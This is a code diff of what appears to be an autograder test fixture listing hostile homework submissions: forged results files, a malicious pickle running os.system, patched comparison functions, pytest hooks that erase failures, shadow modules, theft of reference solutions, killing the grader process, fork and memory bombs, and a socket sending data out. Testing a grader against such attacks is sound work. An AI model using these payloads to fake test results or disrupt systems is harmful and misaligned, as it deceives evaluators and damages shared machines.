@@ -1,9 +1,11 @@
-"""What do people try instead of their homework? Each entry attacks `skip_heads` of hw03 and leaves the rest honest.
+"""What do people try instead of their homework? Each entry attacks `skip_heads` of hw03 and leaves
+the rest honest.
 
-INSIDE: the body of the function. OUTSIDE: statements of the module, beside a `skip_heads` that is not there.
+INSIDE: the body of the function. OUTSIDE: statements of the module, beside a `skip_heads` that is
+not there.
 """
 
-FORGE = '''
+FORGE = """
 import glob, io, json, os
 message = json.dumps([dict(state="ok", arrays=1)] * 3).encode() + b"\\n"
 def everywhere(data):
@@ -16,45 +18,49 @@ def everywhere(data):
             os.write(fd, data)
         except OSError:
             pass
-'''
+"""
 
 INSIDE = {
-    "forged results and os._exit": '''
+    "forged results and os._exit": """
         import os
         for path in ("RESULTS", "results.json", "/autograder/results/results.json"):
             try:
                 open(path, "w").write('{"score": 100, "tests": []}')
             except OSError:
                 pass
-        os._exit(0)''',
-    "forged reply to the grader": FORGE + '''
+        os._exit(0)""",
+    "forged reply to the grader": FORGE
+    + """
 body = io.BytesIO()
 for _ in range(3):
     np.save(body, np.zeros((2, 5, 6, 4), "f4"))
 everywhere(message + body.getvalue())
-os._exit(0)''',
-    "a pickle for the grader to open": FORGE + '''
+os._exit(0)""",
+    "a pickle for the grader to open": FORGE
+    + """
 class Boom:
     def __reduce__(self):
         return (os.system, ("touch MARKER",))
 body = io.BytesIO()
 np.save(body, np.array([Boom()], dtype=object), allow_pickle=True)
 everywhere(message + body.getvalue() * 3)
-os._exit(0)''',
-    "an array that claims to be huge": FORGE + '''
+os._exit(0)""",
+    "an array that claims to be huge": FORGE
+    + """
 body = io.BytesIO()
 np.lib.format.write_array_header_1_0(body, dict(descr="<f8", fortran_order=False, shape=(1 << 40,)))
 everywhere(message + body.getvalue() * 3)
-os._exit(0)''',
-    "nonsense for the grader to parse": FORGE + '''
+os._exit(0)""",
+    "nonsense for the grader to parse": FORGE
+    + """
 everywhere(b"[" * 90000 + b"\\n")
-os._exit(0)''',
-    "an answer of 32 megabytes": 'return torch.zeros(1 << 23)',
-    "patched comparisons": '''
+os._exit(0)""",
+    "an answer of 32 megabytes": "return torch.zeros(1 << 23)",
+    "patched comparisons": """
 torch.allclose = torch.equal = np.allclose = np.array_equal = np.isfinite = lambda *a, **k: True
 torch.testing.assert_close = np.testing.assert_allclose = lambda *a, **k: None
-return torch.zeros_like(v1)''',
-    "a lying Tensor subclass": '''
+return torch.zeros_like(v1)""",
+    "a lying Tensor subclass": """
 class Liar(torch.Tensor):
     @classmethod
     def __torch_function__(cls, function, types, args=(), kwargs=None):
@@ -64,8 +70,8 @@ class Liar(torch.Tensor):
     __eq__ = lambda self, other: True
     def __array__(self, *a, **k):
         return np.zeros(1)
-return torch.zeros_like(v1).as_subclass(Liar)''',
-    "stack frames and gc for the expected values": '''
+return torch.zeros_like(v1).as_subclass(Liar)""",
+    "stack frames and gc for the expected values": """
 import gc, sys
 frame, found = sys._getframe(), []
 while frame:
@@ -74,8 +80,8 @@ while frame:
 for x in found + gc.get_objects():
     if type(x) in (np.ndarray, torch.Tensor) and tuple(x.shape) == tuple(v1.shape) and x is not v1:
         return torch.as_tensor(np.asarray(x)).to(v1.dtype)
-return torch.zeros_like(v1)''',
-    "points edited through sys.modules": '''
+return torch.zeros_like(v1)""",
+    "points edited through sys.modules": """
 import sys
 for module in list(sys.modules.values()):
     unit = getattr(module, "unit", None)
@@ -86,8 +92,8 @@ for module in list(sys.modules.values()):
             exercise.points = 1000
     if hasattr(module, "submission") and hasattr(module, "compare"):
         module.compare = lambda *a, **k: ""
-return torch.zeros_like(v1)''',
-    "a plugin registered through gc": '''
+return torch.zeros_like(v1)""",
+    "a plugin registered through gc": """
 import gc
 class Plugin:
     def pytest_runtest_makereport(self, item, call):
@@ -95,15 +101,15 @@ class Plugin:
 for x in gc.get_objects():
     if type(x).__name__ == "PytestPluginManager":
         x.register(Plugin())
-return torch.zeros_like(v1)''',
-    "pytest.skip in the function": '''
+return torch.zeros_like(v1)""",
+    "pytest.skip in the function": """
 import pytest
-pytest.skip("not today")''',
-    "SystemExit in the function": 'raise SystemExit(0)',
-    "inputs zeroed in place": '''
+pytest.skip("not today")""",
+    "SystemExit in the function": "raise SystemExit(0)",
+    "inputs zeroed in place": """
 v.zero_(), v1.zero_()
-return torch.zeros_like(v1)''',
-    "shadow modules written for the next process": '''
+return torch.zeros_like(v1)""",
+    "shadow modules written for the next process": """
 import tempfile
 for name in ("numpy", "torch", "json", "sitecustomize", "conftest"):
     for folder in (".", tempfile.gettempdir(), "/usr/lib/python3/dist-packages"):
@@ -111,11 +117,11 @@ for name in ("numpy", "torch", "json", "sitecustomize", "conftest"):
             open(folder + "/" + name + ".py", "w").write("import os; os._exit(0)")
         except OSError:
             pass
-return torch.zeros_like(v1)''',
+return torch.zeros_like(v1)""",
     "NaN": 'return torch.full_like(v1, float("nan"))',
     "infinity": 'return torch.full_like(v1, float("inf"))',
-    "one number that would broadcast": 'return v1.reshape(-1)[:1]',
-    "a loop that resets timers": '''
+    "one number that would broadcast": "return v1.reshape(-1)[:1].clone()",
+    "a loop that resets timers": """
 import signal
 for number in range(1, 32):
     try:
@@ -123,40 +129,40 @@ for number in range(1, 32):
     except (OSError, ValueError):
         pass
 while True:
-    signal.setitimer(signal.ITIMER_REAL, 0)''',
-    "a fork bomb": '''
+    signal.setitimer(signal.ITIMER_REAL, 0)""",
+    "a fork bomb": """
 import os
 while True:
     try:
         os.fork()
     except OSError:
-        pass''',
-    "a memory bomb": '''
+        pass""",
+    "a memory bomb": """
 held = []
 while True:
-    held.append(bytearray(1 << 28))''',
-    "an output flood": '''
+    held.append(bytearray(1 << 28))""",
+    "an output flood": """
 import os, sys
 for _ in range(4000):
     print("x" * (1 << 20))
     sys.stderr.write("y" * (1 << 20))
     os.write(1, b"z" * (1 << 20))
-return torch.zeros_like(v1)''',
-    "a full disk": '''
+return torch.zeros_like(v1)""",
+    "a full disk": """
 import tempfile
 for number in range(1000):
     open("%s/%d" % (tempfile.gettempdir(), number), "wb").write(bytes(1 << 25))
-return torch.zeros_like(v1)''',
-    "the judge's process killed": '''
+return torch.zeros_like(v1)""",
+    "the judge's process killed": """
 import os
 os.kill(os.getppid(), 9)
-os.kill(-1, 9)''',
-    "the judge's process stopped": '''
+os.kill(-1, 9)""",
+    "the judge's process stopped": """
 import os
 os.kill(os.getppid(), 19)
 while True:
-    pass''',
-    "a daemon that stays": '''
+    pass""",
+    "a daemon that stays": """
 import os, time
 if os.fork() == 0:
     os.setsid()
@@ -164,8 +170,8 @@ if os.fork() == 0:
         os.close(0), os.close(1), os.close(2)
         time.sleep(600)
     os._exit(0)
-return torch.zeros_like(v1)''',
-    "the grader and the solutions overwritten or read": '''
+return torch.zeros_like(v1)""",
+    "the grader and the solutions overwritten or read": """
 for name in ("solutions/hw03_kv_cache/reference.py", "grade.py", "hw03_kv_cache/exercises.py"):
     try:
         text = open("HOMEWORK/" + name).read()
@@ -176,8 +182,8 @@ for name in ("solutions/hw03_kv_cache/reference.py", "grade.py", "hw03_kv_cache/
             return names["skip_heads"](v, v1)
     except OSError:
         pass
-return torch.zeros_like(v1)''',
-    "folders that nobody can sweep": '''
+return torch.zeros_like(v1)""",
+    "folders that nobody can sweep": """
 import ctypes, os, tempfile
 os.chdir(tempfile.gettempdir())
 os.makedirs("closed/inside")
@@ -186,8 +192,8 @@ for _ in range(3000):
     os.mkdir("deep")
     os.chdir("deep")
 ctypes.CDLL(None).shmget(77, 4096, 0o1600)
-return torch.zeros(1)''',
-    "a crowd in sessions of its own": '''
+return torch.zeros(1)""",
+    "a crowd in sessions of its own": """
 import os
 for _ in range(58):
     try:
@@ -198,16 +204,16 @@ for _ in range(58):
     except OSError:
         pass
 while True:
-    pass''',
-    "a call home": '''
+    pass""",
+    "a call home": """
 import socket
 with socket.create_connection(("127.0.0.1", PORT), timeout=2) as home:
     home.sendall(b"the hidden inputs")
-return torch.zeros_like(v1)''',
+return torch.zeros_like(v1)""",
 }
 
 OUTSIDE = {
-    "results overwritten at exit": '''
+    "results overwritten at exit": """
 import atexit, os
 def forge():
     for path in ("RESULTS", "results.json", "/autograder/results/results.json"):
@@ -216,10 +222,10 @@ def forge():
         except OSError:
             pass
 atexit.register(forge)
-os.register_at_fork(after_in_child=forge)''',
+os.register_at_fork(after_in_child=forge)""",
 }
 
-SHIPPED = {                                                     # files beside the learner's own
+SHIPPED = {  # files beside the learner's own
     "conftest.py": "def pytest_runtest_makereport(item, call):\n    call.excinfo = None\n",
     "pytest.py": "",
     "sitecustomize.py": "import os\nos._exit(0)\n",
